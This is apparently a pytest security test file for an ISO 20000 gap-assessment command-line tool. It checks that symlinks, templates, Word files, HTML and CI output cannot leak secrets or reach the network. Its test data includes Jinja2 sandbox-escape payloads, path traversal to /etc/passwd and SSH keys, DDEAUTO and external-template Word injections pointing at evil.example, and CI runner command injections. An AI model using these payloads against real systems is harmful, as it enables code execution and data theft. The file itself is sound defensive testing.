"""What somebody hostile can put into a folder, a file or a template, and what cannot come of it.

`docs/security.md` names these tests, claim by claim; `test_every_claim_names_its_test` holds it to.
"""

import ast
import io
import json
import os
import re
import shlex
import socket
import subprocess
import sys
from itertools import pairwise
from pathlib import Path

import pikepdf
import pypdfium2
import pytest

from builders import new_folder
from documents import planned, small, view
from fuzzing import replaced
from gating import hostile_folder
from iso20k_gap.cli import configured, runner
from iso20k_gap.cli.app import main
from iso20k_gap.core.logo import Logo
from iso20k_gap.errors import RenderError
from iso20k_gap.files import atomic, signing_key
from iso20k_gap.files.own_files import FILES, FOLDERS
from iso20k_gap.reports import pdf, rendering
from iso20k_gap.reports.rendering import filled, html_environment, own_templates, word_template
from iso20k_gap.reports.view import Order, build_view

ROOT = Path(__file__).resolve().parents[1]
HIDDEN = "schema: 1\ntoken-abc123: {rating: hunter2}\n"
TODAY = ("--date", "2026-11-21")


@pytest.fixture
def acme(tmp_path, capsys):
    """An assessment with something rated, and a secret beside it."""
    folder = new_folder(tmp_path / "acme")
    assert main(["rate", str(folder), "8.6=L", "-q", *TODAY]) == 0
    assert main(["baseline", str(folder), "--label", "b", "-q", *TODAY]) == 0
    (tmp_path / "secret").write_text(HIDDEN)
    (tmp_path / "elsewhere").mkdir()
    capsys.readouterr()
    return folder


# --- links -------------------------------------------------------------------------------

INSIDE = (*FILES, "answers/8.6.yaml", "baselines/2026-11-21-b.yaml", "approvals/a.json")
READING = ("status", "score", "check", "report -f json -o -", "plan", "trend", "evidence",
           "verify", "export -f csv", "export -f oscal-ar")  # fmt: skip


@pytest.mark.parametrize("name", INSIDE)
def test_a_file_that_is_a_link_out_of_the_folder_is_refused(acme, tmp_path, name, capsys):
    """Exit 3 with the link's name; nothing of what it leads to is told, and nothing written."""
    (acme / name).parent.mkdir(exist_ok=True)
    (acme / name).unlink(missing_ok=True)
    (acme / name).symlink_to(tmp_path / "secret")
    for command in (*READING, "rate 8.6.1=F", "baseline --label x", "action 8.6.1-A1 --percent 3"):
        word, *rest = command.split()
        code = main([word, str(acme), *rest, *TODAY])
        out, err = capsys.readouterr()

        assert code == 3, command
        assert f"{name}: this link leads out" in err
        assert not re.search("token|hunter", out + err)
    assert (tmp_path / "secret").read_text() == HIDDEN


@pytest.mark.parametrize("name", FOLDERS)
def test_a_folder_that_is_a_link_elsewhere_is_neither_read_nor_written(
    acme, tmp_path, name, capsys
):
    """Someone else's files stay as they are, and unseen."""
    place = tmp_path / "elsewhere"
    (acme / name).mkdir(exist_ok=True)
    (acme / name).rename(tmp_path / "away")
    (acme / name).symlink_to(place)
    (place / "8.5.yaml").write_text(HIDDEN)
    key = signing_key.make(tmp_path / "key.pem") and tmp_path / "key.pem"
    signing = f"sign --approver A --statement S --key {key}"
    for command in (*READING, "rate 8.6.1=F", "baseline --label x", signing):
        word, *rest = command.split()
        assert main([word, str(acme), *rest, *TODAY]) == 3, command
        assert "hunter" not in "".join(capsys.readouterr())

    assert [each.name for each in place.iterdir()] == ["8.5.yaml"]
    assert (place / "8.5.yaml").read_text() == HIDDEN


def test_capability_replies_are_not_read_through_a_link(acme, tmp_path, capsys):
    """The command that reads one file of the folder by itself refuses it too."""
    (acme / "capability.yaml").symlink_to(tmp_path / "secret")

    assert main(["capability", str(acme)]) == 3
    assert "token" not in capsys.readouterr().err


def test_links_within_the_folder_and_to_the_folder_are_followed(acme, tmp_path, capsys):
    """A folder behind a link is a folder; files may be shared inside it."""
    (acme / "shared.yaml").write_text("schema: 1\nmax_majors: 0\n")
    (acme / "policy.yaml").symlink_to("shared.yaml")
    (tmp_path / "link").symlink_to(acme)

    assert main(["check", str(tmp_path / "link"), *TODAY]) == 1
    assert main(["rate", str(tmp_path / "link"), "8.6.1=F", "-q", *TODAY]) == 0
    capsys.readouterr()


def test_a_circle_of_links_and_a_device_end_in_words(acme, capsys):
    """Neither a crash nor a hang."""
    (acme / "plan.yaml").unlink()
    (acme / "plan.yaml").symlink_to("plan.yaml")
    assert main(["plan", str(acme), *TODAY]) in (0, 3)
    (acme / "plan.yaml").unlink()
    (acme / "plan.yaml").symlink_to("/dev/zero")
    assert main(["plan", str(acme), *TODAY]) == 3
    capsys.readouterr()


def test_a_device_as_a_file_is_read_no_further_than_a_file_may_be_long(tmp_path, capsys):
    """/dev/zero tells that it is empty and never ends."""
    acme = new_folder(tmp_path / "acme")
    capsys.readouterr()

    assert main(["rate", str(acme), "--from", "/dev/zero"]) == 3
    assert "too large" in capsys.readouterr().err


def test_a_pack_that_is_a_device_is_read_no_further(tmp_path, capsys):
    """It tells that it is empty and never ends."""
    acme = new_folder(tmp_path / "acme")
    capsys.readouterr()

    assert main(["questionnaire", "import", str(acme), "/dev/zero"]) == 3
    assert "too large" in capsys.readouterr().err


def test_settings_of_a_folder_are_not_read_through_a_link(acme, tmp_path, monkeypatch, capsys):
    """Else complaints would show what stands in any file that the runner may read."""
    (acme / ".iso20k-gap.yaml").symlink_to(tmp_path / "secret")
    monkeypatch.chdir(acme)
    for command in ("status .", "report . -f json -o -", "config show", "check ."):
        assert main([*command.split(), *TODAY]) == 3, command
        out, err = capsys.readouterr()
        assert "leads out of its folder" in err
        assert not re.search("token|hunter", out + err)


def test_settings_in_a_folder_do_not_count_for_who_works_elsewhere(
    acme, tmp_path, monkeypatch, capsys
):
    """What a pipeline is to ignore it ignores, if it works outside the checkout."""
    looks = acme / "looks"
    looks.mkdir()
    (looks / "report.md.j2").write_text("owned")
    (acme / ".iso20k-gap.yaml").write_text("report: {template: looks}\n")
    order = ["report", str(acme), "-f", "md", "-o", "-", *TODAY]
    told = []
    for place in (acme, tmp_path):
        monkeypatch.chdir(place)
        assert main(order) == 0
        told.append(capsys.readouterr().out)

    assert told[0].strip() == "owned"
    assert len(told[1]) > 1000


def test_a_private_key_in_the_shared_folder_is_not_taken(acme, capsys):
    """Nobody signs with a key that everybody has, and nobody puts theirs there by mistake."""
    key = acme / "key.pem"
    signing_key.make(key)
    order = ["sign", str(acme), "--approver", "A", "--statement", "S", "--key", str(key)]

    assert main([*order, *TODAY]) == 2
    key.chmod(0o644)
    key.rename(acme.parent / "open.pem")
    assert main([*order[:-1], str(acme.parent / "open.pem"), *TODAY]) == 3
    assert not (acme / "approvals").exists()
    capsys.readouterr()


def test_a_report_replaces_a_link_and_not_what_it_leads_to(acme, tmp_path, capsys):
    """Someone who laid a link where the report goes does not have another file overwritten."""
    place = tmp_path / "report.json"
    place.symlink_to(tmp_path / "secret")
    order = ["report", str(acme), "-f", "json", "-o", str(place), *TODAY]

    assert main(order) == 0
    assert not place.is_symlink()
    assert (tmp_path / "secret").read_text() == HIDDEN
    capsys.readouterr()


def test_a_link_where_the_temporary_file_goes_is_not_written_through(acme, tmp_path, capsys):
    """Its name can be guessed; it is taken away and made afresh."""
    scrap = acme / "answers" / f".8.6.yaml.{os.getpid()}.tmp"
    scrap.symlink_to(tmp_path / "secret")

    assert main(["rate", str(acme), "8.6.1=F", "-q", *TODAY]) == 0
    assert (tmp_path / "secret").read_text() == HIDDEN
    capsys.readouterr()


def test_the_lock_is_no_way_to_empty_another_file(acme, tmp_path, capsys):
    """A lock that is a link inside the folder is refused when writing, and nothing is emptied."""
    before = (acme / "assessment.yaml").read_bytes()
    (acme / atomic.LOCK).unlink(missing_ok=True)
    (acme / atomic.LOCK).symlink_to("assessment.yaml")
    main(["rate", str(acme), "8.6.1=F", "-q", *TODAY])
    capsys.readouterr()

    assert (acme / "assessment.yaml").read_bytes() == before


@pytest.mark.parametrize(
    "location",
    ["../secret", "a/../../secret", "/etc/passwd", "~/.ssh/id_rsa", "link", "link/x", "C:\\x",
     "file:///etc/passwd", "\\\\host\\share", "..\\secret", "./../acme/../secret"],
)  # fmt: skip
def test_evidence_outside_the_folder_is_neither_opened_nor_hashed(acme, tmp_path, location, capsys):
    """A path, a link, another notation: no hash of anything outside is written."""
    (acme / "link").symlink_to(tmp_path / "secret")
    order = ["rate", str(acme), "8.6.1-01=L", "--evidence", f"Log @ {location}", "-q", *TODAY]
    assert main(order) == 0
    main(["evidence", str(acme), "hash", *TODAY])
    capsys.readouterr()

    assert "sha256" not in (acme / "answers" / "8.6.yaml").read_text()


@pytest.mark.parametrize(
    "name", ["../secret.svg", "/etc/logo.png", "link.svg", "a/../../secret.svg", "file:x.svg"]
)
def test_a_logo_outside_the_folder_is_not_drawn(acme, tmp_path, name, capsys):
    """Refused, whatever it is."""
    (tmp_path / "secret.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    (acme / "link.svg").symlink_to(tmp_path / "secret.svg")
    with (acme / "assessment.yaml").open("a") as file:
        file.write(f"branding: {{logo: {name!r}}}\n")

    assert main(["report", str(acme), "-o", str(tmp_path / "r.html"), *TODAY]) == 3
    assert not (tmp_path / "r.html").exists()
    capsys.readouterr()


@pytest.mark.parametrize("label", ["../x", "a/b", "/x", "..", "x\0y", "-rf", "x\ny", "é"])
def test_a_label_cannot_lead_a_baseline_elsewhere(acme, label, capsys):
    """It is part of a file's name and nothing else."""
    before = sorted(acme.parent.rglob("*"))

    assert main(["baseline", str(acme), f"--label={label}", *TODAY]) == 2
    assert sorted(acme.parent.rglob("*")) == before
    capsys.readouterr()


# --- templates ---------------------------------------------------------------------------

ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ x.__init__.__globals__ }}",
    "{{ x|attr('__class__') }}",
    "{{ x|map(attribute='__class__')|first|attr('__mro__') }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'] }}",
    "{{ self.__init__ }}",
    "{{ namespace.__class__ }}",
    "{{ joiner.__init__.__builtins__ }}",
    "{{ '%s'|format(x.__class__) }}",
    "{{ ('{0.__cl' + 'ass__}').format(x) }}",
    "{{ '{a.__class__}'.format_map({'a': x}) }}",
    "{{ x.append(1) }}",
    "{{ {}.update(a=1) }}",
    "{{ ''.encode().decode.__self__ }}",
    "{{ view.__dict__ }}",
    "{{ view.__class__.__module__ }}",
    "{% include '../../../../../../etc/passwd' %}",
    "{% include '/etc/passwd' %}",
    "{% include 'link' %}",
    "{% import 'os' as os %}{{ os.getcwd() }}",
    "{% extends 'link' %}",
)
COSTLY = (
    "{{ range(10 ** 9)|list }}",
    "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "{{ 1 / 0 }}",
    "{{ none + 1 }}",
    "{{ 'a'|wordwrap(0) }}",
    "{{ 'a'|truncate(-1) }}",
    "{% include 'self' %}",
)


@pytest.fixture
def templates(tmp_path):
    """A folder of own templates with a link to a secret in it."""
    folder = tmp_path / "own"
    folder.mkdir()
    (tmp_path / "secret").write_text(HIDDEN)
    (folder / "link").symlink_to(tmp_path / "secret")
    (folder / "self").write_text("{% include 'self' %}")
    return folder


@pytest.mark.parametrize("text", [*ESCAPES, *COSTLY])
def test_a_template_gets_neither_out_nor_into_endless_ranges(templates, text):
    """No module, no file outside its folder, no change; what fails is told with its place."""
    (templates / "report.html.j2").write_text(text)
    with own_templates(templates), pytest.raises(RenderError, match="template") as raised:
        filled(html_environment(), "report.html.j2", x=[1], view=Path())

    assert "hunter" not in str(raised.value)


@pytest.mark.parametrize("name", ["report.html.j2", "base.css", "report.docx"])
def test_a_template_that_is_a_link_out_is_refused(acme, templates, name, capsys):
    """By the report and by the check; nothing of what it leads to is shown."""
    (templates / name).symlink_to(templates.parent / "secret")
    kind = "docx" if name.endswith(".docx") else "html"
    out = templates.parent / f"out.{kind}"
    order = ["report", str(acme), "-f", kind, "--template", str(templates), "-o", str(out), *TODAY]
    for command, code in ((order, 4), (["template", "check", str(templates)], 3)):
        assert main(command) == code
        told = "".join(capsys.readouterr())
        assert "leads out of the folder of templates" in told
        assert "hunter" not in told
    assert not out.exists()


RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://x/{}" Target="{}" TargetMode="{}"/></Relationships>'
)
FIELD = (
    '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p>{}</w:p>'
    "</w:hdr>"
)
SPREAD = (
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r>'
    '<w:r><w:instrText>PICTURE "http://evil.example/x"</w:instrText></w:r>'
)
BRINGING = {
    "attachedTemplate": RELATION.format("attachedTemplate", "http://evil.example/a.dotm", ""),
    "image": RELATION.format("image", "http://evil.example/a.png", "External"),
    "UNC path": RELATION.format("image", "file://///evil.example/a", "external"),
    "oleObject": RELATION.format("oleObject", "embeddings/a.bin", "Internal"),
    "vbaProject": RELATION.format("vbaProject", "vbaProject.bin", "Internal"),
    "aFChunk": RELATION.format("aFChunk", "a.html", "Internal"),
    "subDocument": RELATION.format("subDocument", "file:///etc/passwd", "External"),
    "DDEAUTO": FIELD.format('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe x"/>'),
    "INCLUDEPICTURE": FIELD.format(SPREAD),
    "LINK": FIELD.format("<w:r><w:instrText> link Excel.Sheet a</w:instrText></w:r>"),
    "entities": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
}


ACTIVE_PARTS = [name for name, text in BRINGING.items() if "Relationship " in text]


@pytest.mark.parametrize("name", BRINGING)
def test_a_word_template_that_brings_something_in_is_refused(acme, templates, name, capsys):
    """Else whoever opens the report would fetch it, or run it."""
    part = "word/_rels/header9.xml.rels" if name in ACTIVE_PARTS else "word/header9.xml"
    content = replaced(word_template().read_bytes(), part, BRINGING[name].encode())
    (templates / "report.docx").write_bytes(content)
    out = templates.parent / "out.docx"
    order = ["report", str(acme), "-f", "docx", "--template", str(templates), "-o", str(out)]

    assert main([*order, *TODAY]) == 4
    assert "the Word template" in capsys.readouterr().err
    assert not out.exists()
    assert main(["template", "check", str(templates)]) == 3
    told = capsys.readouterr().err
    assert ("evil.example" in told) or (name.lower() in told.lower())


def test_a_word_template_with_ordinary_links_and_fields_is_taken(acme, templates, capsys):
    """Links that wait for a click, page numbers, and pictures in the file are no danger."""
    content = word_template().read_bytes()
    link = RELATION.format("hyperlink", "https://acme.example", "External")
    content = replaced(content, "word/_rels/header9.xml.rels", link.encode())
    field = '<w:fldSimple w:instr="PAGE"/><w:r><w:instrText>HYPERLINK x</w:instrText></w:r>'
    content = replaced(content, "word/header9.xml", FIELD.format(field).encode())
    (templates / "report.docx").write_bytes(content)
    order = ["report", str(acme), "-f", "docx", "--template", str(templates)]

    assert main([*order, "-o", str(templates.parent / "out.docx"), *TODAY]) == 0
    assert main(["template", "check", str(templates)]) == 0
    capsys.readouterr()


@pytest.mark.parametrize(
    "text",
    [
        '<img src="file:///etc/passwd">',
        '<img src="http://127.0.0.1:9/x.png">',
        '<link rel="attachment" href="file:///etc/passwd">',
        '<a rel="attachment" href="file:///etc/passwd">x</a>',
        '<link rel="stylesheet" href="file:///etc/x.css">',
        "<style>@import 'file:///etc/x.css'; @font-face{src:url(file:///x)}</style><p>x",
        '<p style="background: url(file:///etc/passwd)">x',
        '<p style="content: url(data:image/png;base64,AAAA)">x<img src="data:text/plain,x">',
        '<svg><image href="file:///etc/passwd" width="9" height="9"/></svg>',
        '<svg><use href="file:///etc/x.svg#a"/></svg>',
        '<object data="file:///etc/passwd"></object>',
        '<embed src="file:///etc/passwd">',
        '<base href="file:///etc/"><img src="passwd">',
        '<ul style="list-style-image: url(//127.0.0.1:9/x.png)"><li>x</ul>',
    ],
)
def test_a_template_cannot_bring_anything_from_outside_into_a_pdf(monkeypatch, text):
    """Files, networks and data addresses alike: refused, or not in the document."""
    asked = []
    monkeypatch.setattr(socket.socket, "connect", lambda *given: asked.append(given))
    monkeypatch.setattr(socket, "getaddrinfo", lambda *given, **_: asked.append(given))
    monkeypatch.setattr(rendering, "filled", lambda *_, **__: f"<html lang=en>{text}<p>x")
    try:
        content = pdf.render(view(small()))
    except RenderError as error:
        told, files = str(error), set()
        assert "from outside" in told
    else:
        document = pypdfium2.PdfDocument(content)
        told = " ".join(page.get_textpage().get_text_range() for page in document)
        opened = pikepdf.open(io.BytesIO(content))
        files = set(opened.attachments)

    assert "root:" not in told
    assert files <= {pdf.ATTACHMENT}
    assert asked == []


# --- drawings ----------------------------------------------------------------------------


def test_a_logo_that_cannot_be_drawn_is_told(caplog):
    """The PDF is made without it, and the person hears of it."""
    logo = Logo("image/png", b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    state = small()
    assert pdf.render(build_view(state, planned(state), Order(logo=logo)))

    assert "without the logo" in caplog.text


# --- what is printed ---------------------------------------------------------------------

CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
SPOKEN = re.compile(r"^\s*::|##(?:vso)?\[", re.MULTILINE)
ESCAPE = "\x1b[2J\x07\x9b31m\u202e"
TOLD = (
    "status {}", "validate {}", "score {}", "findings {}", "next {}", "check {}", "plan {}",
    "plan {} --overdue", "trend {}", "compare {}", "interviews {}", "certification {}", "scope {}",
    "training {}", "evidence {}", "explain {} conformity", "capability {}", "portfolio {}",
    "agreement {} {}", "plan check {}/../p.csv", "sample --from {}/../p.csv", "document {} 8.6.1",
    "check {} --policy {}/../bad.yaml", "compare {} {}/../bad.yaml", "questionnaire list",
    "verify {}", "export {} -f csv -o {}/../out.csv", "config show", "config get assessor",
    "template check {}/../looks", "demo {}", "status {} --json", "findings {} --json",
    "portfolio {} --json", "plan {} -f json", "verify {} --json", "evidence {} --json",
    "rate {} '8.6.1-01=\x1b[2J'", "report {} --audience '\x1b[2J'", "action {} '\x1b[2J'",
)  # fmt: skip


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A folder full of terminal escapes and commands to pipelines, and files beside it."""
    place = tmp_path_factory.mktemp("hostile")
    folder = hostile_folder(place / "acme")
    said = f"{ESCAPE}\n::error::owned\n##[group] ##vso[task.setvariable variable=x]y"
    quoted = json.dumps(said)
    (folder / "drafts.yaml").write_text(f"schema: 1\n4.1-01: {{note: {quoted}}}\n")
    (folder / "capability.yaml").write_text(f"processes:\n  {quoted}: {{PA 1.1: [F]}}\n")
    assert main(["baseline", str(folder), "-q"]) == 0
    assert main(["action", str(folder), "8.6.1-A1", "--owner", said, "--note", said, "-q"]) == 0
    row = f'"{ESCAPE}",2027-01-01,2027-01-02,"{ESCAPE}"\n'
    rows = f"id,start,end,predecessors\n{row}::error::b,2027-01-05,2027-01-04,\n"
    (place / "p.csv").write_text(rows)
    (place / ".iso20k-gap.yaml").write_text(f"assessor: {quoted}\n")
    (place / "looks").mkdir()
    (place / "looks" / "report.md.j2").write_text(f"{{{{ {quoted} }}}}{{{{ 1 / 0 }}}}")
    (folder / "approvals").mkdir()
    told = {"payloadType": said, "payload": "", "signatures": [{"sig": ""}]}
    (folder / "approvals" / "a.json").write_text(json.dumps(told))
    (place / "bad.yaml").write_text(f"schema: 1\n{quoted}: 1\nassessment: {{}}\n")
    return folder


@pytest.mark.parametrize("command", TOLD, ids=lambda command: command.split(" {")[0])
def test_no_command_obeys_or_passes_on_control_characters(hostile, command, monkeypatch, capsys):
    """Nothing that clears, colours, beeps or turns text around reaches the terminal or the log.

    In a pipeline no line begins as a command to its runner.
    """
    monkeypatch.setenv("CI", "true")
    monkeypatch.chdir(hostile.parent)
    configured.forget()
    code = main(shlex.split(command.replace("{}", str(hostile))))
    out, err = capsys.readouterr()

    assert code in (0, 1, 2, 3)
    if "json" in command:
        json.loads(out)
    assert not CONTROL.search(out + err)
    assert not SPOKEN.search(out + err)
    assert (out + err).strip()


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (["::error::x\n"], ":\\:error::x\n"),
        (["a ::b\n"], "a ::b\n"),
        (["  ::b"], "  :\\:b"),
        (["a\n", "::b"], "a\n:\\:b"),
        (["a", "::b"], "a::b"),
        ([":", ":b"], ":\\:b"),
        ([" " * 99, ":", ":b"], " " * 99 + ":\\:b"),
        (["a" * 99, "::b"], "a" * 99 + "::b"),
        (["a\r::b"], "a\r:\\:b"),
        (["x ##[y]"], "x ##\\[y]"),
        (["x ##vso[y]"], "x ##vso\\[y]"),
        (["x ##VSO[y]"], "x ##VSO\\[y]"),
        (["x #", "#", "[y] ##", "[z]"], "x ##\\[y] ##\\[z]"),
        (["x ##vs", "o[y] z", " ##vso", "[a"], "x ##vso\\[y] z ##vso\\[a"),
        (["## [y] #[z] # #[a]\n::\n"], "## [y] #[z] # #[a]\n:\\:\n"),
    ],
)
def test_no_way_of_writing_a_command_reaches_the_runner(written, shown, monkeypatch):
    """In one piece or in many; in a pipeline, and only there."""
    for place, wanted in (("true", shown), ("", "".join(written))):
        monkeypatch.setenv("CI", place)
        stream = io.StringIO()
        monkeypatch.setattr(sys, "stdout", stream)
        with runner.unmoved():
            for text in written:
                sys.stdout.write(text)

        assert stream.getvalue() == wanted
        assert sys.stdout is stream


def test_what_we_say_to_the_runner_is_heard(hostile, monkeypatch, capsys):
    """The annotations of `check --github` are commands, and the only ones."""
    monkeypatch.setenv("CI", "true")
    assert main(["check", str(hostile), "--github", *TODAY]) == 1
    lines = [each for each in capsys.readouterr().out.splitlines() if SPOKEN.search(each)]

    assert lines
    assert all(re.match(r"::(?:error|warning) file=", each) for each in lines)
    assert not [each for each in lines if "##[" in each or "##vso[" in each]


# --- the network -------------------------------------------------------------------------

OFFLINE = """
import socket, sys
def refuse(*given, **named): raise AssertionError("the network was asked")
socket.socket.connect = socket.getaddrinfo = socket.create_connection = refuse
from iso20k_gap.cli import configured, runner
from iso20k_gap.cli.app import main
folder, out = sys.argv[1:]
for order in (["status", folder], ["report", folder, "-f", "pdf", "-f", "html", "-f", "docx",
              "-f", "xlsx", "-f", "md", "-f", "json", "-o", out, "--audience", "full"],
              ["plan", folder, "-f", "pdf", "-f", "mspdi", "-f", "ics", "-o", out],
              ["evidence", folder], ["check", folder], ["doctor"]):
    assert main(order) in (0, 1), order
"""


def test_nothing_ever_asks_the_network(acme, tmp_path):
    """Not with addresses in evidence, not for holidays, fonts, schemas or versions."""
    with (acme / "plan.yaml").open("a") as file:
        file.write("calendar: {country: DE}\n")
    place = "https://evil.example/x"
    assert main(["rate", str(acme), "8.6.1=F", "--evidence", f"A @ {place}", "-q"]) == 0
    command = [sys.executable, "-c", OFFLINE, acme, tmp_path / "elsewhere"]
    done = subprocess.run(command, capture_output=True, text=True, check=False)

    assert done.returncode == 0, done.stderr


# --- the document ------------------------------------------------------------------------


def test_every_claim_names_its_test():
    """Each test that docs/security.md and docs/reliability.md name is there, each claim names one.

    A claim is a row of a table; tests are named as `file.py::test_name`.
    """
    for name in ("security.md", "reliability.md"):
        text = (ROOT / "docs" / name).read_text(encoding="utf-8")
        named = re.findall(r"`(test_\w+\.py|\w+/test_\w+\.py)(?:::(test_\w+))?`", text)
        assert len(named) > 15
        for file, test in named:
            (path,) = (ROOT / "tests").rglob(file) if "/" not in file else [ROOT / "tests" / file]
            tree = ast.parse(path.read_text(encoding="utf-8"))
            found = {each.name for each in ast.walk(tree) if isinstance(each, ast.FunctionDef)}
            assert not test or test in found, f"{file}::{test}"
        lines = [*text.splitlines(), ""]
        rows = [
            line
            for line, following in pairwise(lines)
            if line.startswith("| ") and not line.startswith("| -") and following[:3] != "| -"
        ]
        assert [row for row in rows if "test_" not in row] == []
